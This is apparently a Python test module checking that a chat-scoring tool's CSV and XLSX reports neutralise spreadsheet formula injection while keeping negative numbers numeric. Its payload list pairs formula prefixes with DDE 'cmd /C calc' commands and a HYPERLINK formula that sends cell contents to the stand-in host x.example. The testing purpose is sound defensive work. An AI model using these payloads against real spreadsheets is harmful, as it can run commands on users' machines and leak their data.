"""Texts that spreadsheets take for formulas, through everything that reports write; numbers have to stay numbers."""
import csv
import io
import json
import os
import re
import zipfile

HEADS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n=", " =", "\u3000=", "\u00a0=", "\u200b=", "\ufeff=", "\t", "\n-", " @", "　＝"]
TAILS = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example?"&A1,"点我")', "SUM(A1:A9);1", "2\n=3", 'DDE("cmd";"/C calc";"x")']
PAYLOADS = [head + tail for head in HEADS for tail in TAILS]
NUMBER = re.compile(r"[-+]?\d+(\.\d+)?(e[-+]?\d+)?%?")
# What programs strip before they look at the first character.
BLANK = " \t\r\n\v\f\0\u00a0\u3000\u200b\ufeff"


def write(folder):
    """Rules and chats that carry the payloads; the arguments to score them."""
    os.makedirs(os.path.join(folder, "rules"))
    rules = os.path.join(folder, "rules/formula.yaml")
    with open(rules, "w", encoding="utf-8") as file:
        file.write(f"id: formula\ntitle: {json.dumps(PAYLOADS[0])}\nwhy: {json.dumps(PAYLOADS[1])}\ncategory: attitude\nseverity: minor\nforbid:\n  keyword: [哼哼哈嘿]\nscore: {{deduct: 3}}\n")
    with open(os.path.join(folder, "formulas.jsonl"), "w", encoding="utf-8") as file:
        for number, payload in enumerate(PAYLOADS):
            messages = [{"role": "customer", "text": payload}, {"role": "agent", "sender": f"{payload}{number}", "text": payload + "哼哼哈嘿"}]
            record = {"id": f"{payload}{number}", "shop": payload, "platform": payload, "customer": {"id": payload, "name": payload},
                      "agents": [{"id": f"{payload}{number}", "name": payload, "group": payload}], "messages": messages}
            file.write(json.dumps(record, ensure_ascii=False) + "\n")
    outputs = ["--format", "csv", "--output", "r.csv", "--format", "tables", "--output", "r.tables", "--format", "xlsx", "--output", "r.xlsx"]
    return ["score", "formulas.jsonl", "--rules", "rules", "--privacy", "none", *outputs]


def is_formula(cell):
    stripped = cell.lstrip(BLANK)
    return stripped[:1] in tuple("=+-@＝＋－＠") and bool(stripped) and not NUMBER.fullmatch(cell)


def check(folder):
    """What is wrong with the reports, and how many cells were looked at."""
    faults, cells, negative = [], 0, 0
    files = sorted(os.path.join(part, name) for part in ("r.csv", "r.tables") for name in os.listdir(os.path.join(folder, part)) if name.endswith(".csv"))
    for name in files:
        with open(os.path.join(folder, name), encoding="utf-8-sig", newline="") as file:
            for row in csv.reader(io.StringIO(file.read(), newline="")):
                for cell in row:
                    cells += 1
                    negative += cell.startswith("-") and bool(NUMBER.fullmatch(cell))
                    if is_formula(cell):
                        faults.append(f"{name}: a cell begins as a formula: {cell[:60]!r}")
    with zipfile.ZipFile(os.path.join(folder, "r.xlsx")) as workbook:
        for name in workbook.namelist():
            text = workbook.read(name).decode("utf-8", "replace")
            if name.startswith("xl/worksheets/") and re.search(r"<f[ >/]", text):
                faults.append(f"r.xlsx: {name} has a formula")
            if name.startswith("xl/worksheets/"):
                negative += len(re.findall(r"<c [^>]*><v>-\d", text)) - len(re.findall(r'<c [^>]*t="[^"]*"[^>]*><v>-\d', text))
                cells += text.count("<c ")
            if "hyperlink" in text and "x.example" in text:
                faults.append(f"r.xlsx: {name} links to what a chat says")
    if negative == 0:
        faults.append("no negative number stayed one")
    if cells < 10 * len(PAYLOADS):
        faults.append(f"only {cells} cells")
    return faults[:20], cells
